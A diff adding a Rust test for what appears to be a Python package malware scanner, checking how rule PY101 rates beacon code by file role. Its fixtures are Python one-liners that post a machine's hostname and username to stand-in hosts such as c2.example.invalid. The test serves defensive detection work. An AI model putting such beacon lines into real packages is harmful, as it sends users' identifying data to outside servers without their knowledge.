@@ -182,3 +182,33 @@ fn token_stealer_in_library_code_is_high() {
     assert_eq!(f.severity, Severity::High, "{f:?}");
     assert!(f.message.contains("discord"), "{}", f.message);
 }
+
+#[test]
+fn one_identity_fact_from_library_code_is_medium_a_host_profile_high() {
+    let sev = |src: &str, role: FileRole, path: &str| {
+        let file = SourceFile {
+            path,
+            text: src,
+            role,
+        };
+        python::check(&file)
+            .into_iter()
+            .filter(|f| f.rule.as_str() == "PY101")
+            .map(|f| f.severity)
+            .max()
+    };
+    let one = "import socket, requests\nrequests.post('https://notify.example.invalid/', data={'host': socket.gethostname()})\n";
+    let two = "import socket, getpass, requests\nrequests.post('https://c2.example.invalid/', data={'h': socket.gethostname(), 'u': getpass.getuser()})\n";
+    assert_eq!(
+        sev(one, FileRole::Library, "p/notify.py"),
+        Some(Severity::Medium)
+    );
+    assert_eq!(
+        sev(two, FileRole::Library, "p/beacon.py"),
+        Some(Severity::High)
+    );
+    assert_eq!(
+        sev(one, FileRole::Install, "p-1.0/setup.py"),
+        Some(Severity::Critical)
+    );
+}
